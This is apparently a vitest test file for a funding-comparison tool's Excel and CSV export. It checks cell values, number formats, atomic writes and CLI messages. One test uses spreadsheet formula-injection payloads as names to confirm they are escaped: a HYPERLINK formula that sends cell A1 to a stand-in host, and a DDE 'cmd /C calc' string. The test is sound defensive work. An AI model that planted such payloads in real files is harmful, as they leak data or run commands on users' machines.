// The Excel export read back: cell for cell the numbers of `compare --json`, real numeric
// cells under £ formats, formula-looking names defused (reliability.md: safe exports), atomic writes.
import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import { buildSync } from 'esbuild';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../electron/cli/main';
import { comparisonText } from '../../electron/cli/report-text';
import { writeFileAtomic } from '../../electron/atomic-file';
import { comparisonWorkbook, MONEY_FORMAT } from '../../electron/export/workbook';
import { readZipDirectory } from '../../electron/import/spreadsheet';
import { compare, comparisonJson } from '../../shared/compare';
import { simulate } from '../../shared/engine';
import type { Plan } from '../../shared/plan';
import { simulationJson } from '../../shared/result-json';
import { validatePlan } from '../../shared/validate';

const root = join(__dirname, '../..');
const demoPath = join(root, 'shared/demo/wmvru-plan.json');
const demo = (): Plan => JSON.parse(readFileSync(demoPath, 'utf8'));
const IDS = ['flat-june', 'cut-25-june'];
const DATE = new Date(2026, 4, 4);
const dir = mkdtempSync(join(tmpdir(), 'headroom-workbook-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** What `headroom compare --json` prints for the demo, built from the core functions. */
function compareJson(plan: Plan, ids: string[]) {
  const validation = validatePlan(plan);
  if (!validation.ok) throw new Error('demo plan invalid');
  const results = ids.map((id) => simulate(validation.scenarios.find((s) => s.id === id)!));
  return {
    // The headline FY (the plan's next cliff edge, 2021/22) has an at-risk row of its own.
    compared: JSON.parse(JSON.stringify(comparisonJson(plan.name, compare(results, 2021)))) as ReturnType<typeof comparisonJson>,
    simulated: JSON.parse(JSON.stringify(simulationJson(plan.name, results))) as ReturnType<typeof simulationJson>,
  };
}

async function readBack(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as never);
  return book;
}

/** The cell a measure's value should be: money in pounds (pence / 100), flags as words. */
function expected(kind: string, value: number | null, difference = false): unknown {
  if (value === null) return null;
  if (kind === 'money') return value / 100;
  if (kind === 'flag') return difference ? (value === 0 ? 'same' : 'differs') : value ? 'yes' : 'no';
  return value;
}

describe('the comparison workbook of the demo plan (flat-june against cut-25-june)', () => {
  let book: ExcelJS.Workbook;
  let json: ReturnType<typeof compareJson>;
  beforeAll(async () => {
    book = await readBack(await comparisonWorkbook(demo(), IDS, { date: DATE }));
    json = compareJson(demo(), IDS);
  });

  it('has the four sheets, each titled with the plan, the scenarios and the date, header frozen', () => {
    expect(book.worksheets.map((s) => s.name)).toEqual(['Summary', 'Years', 'Interventions', 'Decisions', 'Monthly']);
    for (const sheet of book.worksheets) {
      expect(sheet.getCell('A1').value).toBe('West Midlands VRU: 2021/22 cliff edge');
      expect(String(sheet.getCell('A2').value)).toContain(
        'Flat grant, confirmed in June [flat-june, wait] against 25% cut, confirmed in June [cut-25-june, wait]',
      );
      expect(sheet.getCell('A3').value).toBe('Produced by Headroom on 4 May 2026. Money in pounds, exact to the penny.');
      expect(sheet.views[0]).toMatchObject({ state: 'frozen' });
      expect((sheet.views[0] as { ySplit: number }).ySplit).toBeGreaterThanOrEqual(5);
      expect(sheet.getColumn(1).width).toBeGreaterThan(8);
    }
  });

  it('Summary: every total, cell for cell, with differences from the first scenario', () => {
    const sheet = book.getWorksheet('Summary')!;
    expect(sheet.getRow(5).values).toEqual([
      ,
      'Measure',
      'Flat grant, confirmed in June',
      '25% cut, confirmed in June',
      '25% cut, confirmed in June − Flat grant, confirmed in June',
    ]);
    json.compared.totals.forEach((row, i) => {
      const cells = sheet.getRow(6 + i);
      expect(cells.getCell(1).value).toBe(row.label);
      row.values.forEach((v, j) => expect(cells.getCell(2 + j).value).toBe(expected(row.kind, v)));
      expect(cells.getCell(4).value).toBe(expected(row.kind, row.differences[1], true));
      if (row.kind === 'money') {
        expect(cells.getCell(2).type).toBe(ExcelJS.ValueType.Number);
        expect(cells.getCell(2).numFmt).toBe(MONEY_FORMAT);
        // Exact: the pounds in the cell are the engine's pence, to the penny.
        expect(Math.round((cells.getCell(3).value as number) * 100)).toBe(row.values[1]);
      }
    });
    expect(sheet.getRow(6 + json.compared.totals.length).getCell(1).value).toBeNull();
  });

  it('Years: each FY, each measure, cell for cell', () => {
    const sheet = book.getWorksheet('Years')!;
    let r = 6;
    for (const year of json.compared.years) {
      for (const row of year.rows) {
        const cells = sheet.getRow(r++);
        expect([cells.getCell(1).value, cells.getCell(2).value]).toEqual([year.label, row.label]);
        expect([cells.getCell(3).value, cells.getCell(4).value, cells.getCell(5).value]).toEqual([
          expected(row.kind, row.values[0]),
          expected(row.kind, row.values[1]),
          expected(row.kind, row.differences[1], true),
        ]);
      }
    }
    expect(r).toBe(6 + json.compared.years.length * 8);
    expect(sheet.getCell('C6').numFmt).toBe(MONEY_FORMAT);
  });

  it('Interventions: each service in each scenario under its name, the rows that differ first', () => {
    const sheet = book.getWorksheet('Interventions')!;
    expect(sheet.getCell('C5').value).toBe('Flat grant, confirmed in June');
    expect(sheet.getCell('M5').value).toBe('25% cut, confirmed in June');
    const labels = ['Outcome', 'Notice deadline', 'Notice served', 'Last month', 'Run-on', 'Exit cost'];
    expect((sheet.getRow(6).values as unknown[]).slice(3, 9)).toEqual(labels);
    expect((sheet.getRow(6).values as unknown[]).slice(9, 13)).toEqual([
      'People moved',
      'People losing support',
      'Partner',
      'Handover month',
    ]);
    json.compared.interventions.forEach((row, i) => {
      const cells = sheet.getRow(7 + i);
      expect([cells.getCell(1).value, cells.getCell(2).value]).toEqual([row.name, row.id]);
      expect([cells.getCell(3).value, cells.getCell(13).value]).toEqual(row.outcomes);
      expect(cells.getCell(23).value).toBe(row.differs ? 'yes' : 'no');
      const result = json.simulated.scenarios[1].interventions.find((r) => r.id === row.id)!;
      expect([14, 15, 16, 17, 18, 19, 20, 21, 22].map((c) => cells.getCell(c).value)).toEqual([
        result.noticeDeadline,
        result.noticeServed,
        result.lastMonth,
        result.runOn,
        result.exitCost,
        result.usersMoved,
        result.usersLosingSupport,
        result.partner,
        result.handoverMonth,
      ]);
    });
    expect(sheet.getCell('M7').value).toBe('closes 2021-07');
  });

  it('Decisions: every notice deadline in date order, with what each scenario does there', () => {
    const sheet = book.getWorksheet('Decisions')!;
    const rows: unknown[][] = [];
    for (let r = 6; sheet.getRow(r).getCell(1).value !== null; r++) rows.push((sheet.getRow(r).values as unknown[]).slice(1));
    const deadlines = rows.map((r) => String(r[0]));
    expect(deadlines).toEqual([...deadlines].sort());
    expect(rows[0]).toEqual(expect.arrayContaining(['already passed when the plan starts']));
    const youth = rows.find((r) => r[1] === '2021/22' && r[2] === 'Mentors in Violence Prevention')!;
    expect(youth[0]).toBe('2021-03');
    expect(youth[4]).toBe('Continues (decided 2021-06)');
    expect(String(youth[5])).toMatch(/^Closes: decided 2021-06, notice served 2021-06, last month 2021-06/);
  });

  it('Monthly: funding, spend and partner for each scenario, in pounds exact to the penny', () => {
    const sheet = book.getWorksheet('Monthly')!;
    expect(sheet.getRow(6).values).toEqual([
      ,
      'Month',
      'FY',
      'Funding',
      'Spend',
      'Paid by partners',
      'Funding',
      'Spend',
      'Paid by partners',
    ]);
    const months = json.simulated.scenarios[0].months;
    expect(months).toHaveLength(36);
    months.forEach((m, i) => {
      const cells = sheet.getRow(7 + i);
      expect(cells.getCell(1).value).toBe(m.month);
      json.simulated.scenarios.forEach((s, k) => {
        const month = s.months[i];
        expect([cells.getCell(3 + k * 3).value, cells.getCell(4 + k * 3).value, cells.getCell(5 + k * 3).value]).toEqual([
          month.funding,
          month.spend,
          month.partner,
        ]);
      });
    });
    expect(sheet.getCell('D7').numFmt).toBe(MONEY_FORMAT);
  });

  it('writes numbers as numbers: no formula anywhere in the file', async () => {
    const bytes = await comparisonWorkbook(demo(), IDS, { date: DATE });
    for (const entry of readZipDirectory(bytes)) expect(entry.name).not.toMatch(/calcChain/);
    for (const sheet of book.worksheets)
      sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});

describe('formula-looking text from the plan', () => {
  it('comes back as escaped text, never as a formula', async () => {
    const plan = demo();
    plan.name = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")';
    plan.scenarios![1].name = '+cmd|" /C calc"!A0';
    plan.scenarios![2].name = '@SUM(1+1)';
    plan.interventions[9].name = '-2+3';
    plan.interventions[10].name = '\tTabbed';
    plan.interventions[11].name = '\rReturn';
    const bytes = await comparisonWorkbook(plan, IDS, { date: DATE });
    const book = await readBack(bytes);
    const summary = book.getWorksheet('Summary')!;
    expect(summary.getCell('A1').value).toBe(`'${plan.name}`);
    expect(summary.getCell('A1').type).toBe(ExcelJS.ValueType.String);
    expect(summary.getCell('B5').value).toBe(`'${plan.scenarios![1].name}`);
    expect(summary.getCell('C5').value).toBe(`'${plan.scenarios![2].name}`);
    const names = book.getWorksheet('Interventions')!.getColumn(1).values as unknown[];
    expect(names).toContain("'-2+3");
    expect(names).toContain("'\tTabbed");
    expect(book.title).toBe(`'${plan.name}`);
    for (const sheet of book.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
        }),
      );
    // And in the raw XML: no <f> element on any sheet.
    const entries = readZipDirectory(bytes);
    const sheets = entries.filter((e) => /^xl\/worksheets\/sheet\d+\.xml$/.test(e.name));
    expect(sheets).toHaveLength(5);
    for (const sheet of sheets) expect(rawPart(bytes, sheet.name)).not.toMatch(/<f[ >]/);
    expect(rawPart(bytes, 'xl/sharedStrings.xml')).toContain(
      '&apos;=HYPERLINK(&quot;http://example.invalid/?x=&quot;&amp;A1,&quot;Click&quot;)',
    );
  });
});

/** One part of a zip, inflated, found through the central directory (not trusting exceljs). */
function rawPart(bytes: Buffer, name: string): string {
  const entries = readZipDirectory(bytes);
  const index = entries.findIndex((e) => e.name === name);
  if (index < 0) throw new Error(`no ${name}`);
  const eocd = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let c = bytes.readUInt32LE(eocd + 16);
  for (let i = 0; i < index; i++) c += 46 + bytes.readUInt16LE(c + 28) + bytes.readUInt16LE(c + 30) + bytes.readUInt16LE(c + 32);
  const local = bytes.readUInt32LE(c + 42);
  const start = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28);
  const data = bytes.subarray(start, start + entries[index].compressedSize);
  return (entries[index].method === 8 ? inflateRawSync(data) : data).toString('utf8');
}

describe('writing files', () => {
  it('replaces a file whole and leaves no temporary file behind', () => {
    const path = join(dir, 'out.xlsx');
    writeFileSync(path, 'old');
    writeFileAtomic(path, Buffer.from('new contents'));
    expect(readFileSync(path, 'utf8')).toBe('new contents');
    expect(readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
    expect(() => writeFileAtomic(join(dir, 'no-such-folder', 'x.xlsx'), 'x')).toThrow(/ENOENT/);
  });

  it('a writer killed in the middle of an export leaves the old file or the new one, whole', async () => {
    const script = join(dir, 'writer.cjs');
    buildSync({
      stdin: {
        contents: `import { writeFileAtomic } from ${JSON.stringify(join(root, 'electron/atomic-file.ts'))};
        const [path, size] = process.argv.slice(2);
        for (let i = 0; ; i++) writeFileAtomic(path, Buffer.alloc(Number(size), i % 2 ? 0x42 : 0x41));`,
        resolveDir: root,
        loader: 'ts',
      },
      bundle: true,
      platform: 'node',
      format: 'cjs',
      outfile: script,
      external: ['exceljs'],
      logLevel: 'silent',
    });
    const target = join(dir, 'killed.xlsx');
    const size = 8 * 1024 * 1024;
    writeFileSync(target, Buffer.alloc(size, 0x4f));
    for (let round = 0; round < 5; round++) {
      const child = spawn(process.execPath, [script, target, String(size)], { stdio: 'ignore' });
      await new Promise((resolve) => setTimeout(resolve, 150 + round * 97));
      child.kill('SIGKILL');
      await new Promise((resolve) => child.on('exit', resolve));
      const bytes = readFileSync(target);
      expect(bytes.length).toBe(size);
      expect(new Set([bytes[0], bytes[size - 1]]).size).toBe(1);
      expect(bytes.every((b) => b === bytes[0])).toBe(true);
    }
  });
});

describe('headroom compare with files', () => {
  const capture = () => {
    const out: string[] = [];
    const err: string[] = [];
    return { io: { out: (t: string) => out.push(t), err: (t: string) => err.push(t) }, out, err };
  };

  it('keeps its table, CSV and JSON on standard output', async () => {
    const table = capture();
    expect(await runCli(['compare', demoPath, '--scenario', 'flat-june', '--scenario', 'cut-25-june'], table.io)).toBe(0);
    const validation = validatePlan(demo());
    if (!validation.ok) throw new Error('demo invalid');
    const results = IDS.map((id) => simulate(validation.scenarios.find((s) => s.id === id)!));
    expect(table.out).toEqual([comparisonText(demo().name, compare(results, 2021))]);
    const json = capture();
    expect(await runCli(['compare', demoPath, '--scenario', 'flat-june', '--scenario', 'cut-25-june', '--json'], json.io)).toBe(0);
    expect(JSON.parse(json.out[0])).toEqual(compareJson(demo(), IDS).compared);
  });

  it('writes --xlsx and --csv-out, saying what and how long; --csv still goes to standard output', async () => {
    const xlsx = join(dir, 'compare.xlsx');
    const csv = join(dir, 'compare.csv');
    const run = capture();
    expect(
      await runCli(
        ['compare', demoPath, '--scenario', 'flat-june', '--scenario', 'cut-25-june', '--csv', '--xlsx', xlsx, '--csv-out', csv],
        run.io,
      ),
    ).toBe(0);
    expect(run.out[0]).toMatch(/^Section,FY,Item,"Flat grant, confirmed in June","25% cut, confirmed in June",/);
    expect(run.err).toHaveLength(2);
    expect(run.err[0]).toMatch(/^Wrote .*compare\.csv \(\d+\.\d KB\) in \d+ ms$/);
    expect(run.err[1]).toMatch(
      /^Wrote .*compare\.xlsx \(5 sheets: Summary, Years, Interventions, Decisions, Monthly; \d+\.\d KB\) in [\d.]+ m?s$/,
    );
    expect(readFileSync(csv, 'utf8').trimEnd()).toBe(run.out[0]);
    const book = await readBack(readFileSync(xlsx));
    expect(book.getWorksheet('Summary')!.getCell('B6').value).toBe(compareJson(demo(), IDS).compared.totals[0].values[0]! / 100);
  });

  it('refuses a wrong file name or a missing folder with a plain message', async () => {
    const wrong = capture();
    expect(
      await runCli(['compare', demoPath, '--scenario', 'flat-june', '--scenario', 'cut-25-june', '--xlsx', join(dir, 'x.csv')], wrong.io),
    ).toBe(1);
    expect(wrong.err[0]).toMatch(/^headroom compare: --xlsx needs a \.xlsx file name, not ".*x\.csv"\nUsage: /);
    const missing = capture();
    expect(
      await runCli(
        ['compare', demoPath, '--scenario', 'flat-june', '--scenario', 'cut-25-june', '--xlsx', join(dir, 'none', 'x.xlsx')],
        missing.io,
      ),
    ).toBe(1);
    expect(missing.err[0]).toMatch(/^headroom compare: cannot write .*x\.xlsx: no such folder$/);
    expect(existsSync(join(dir, 'none'))).toBe(false);
  });
});
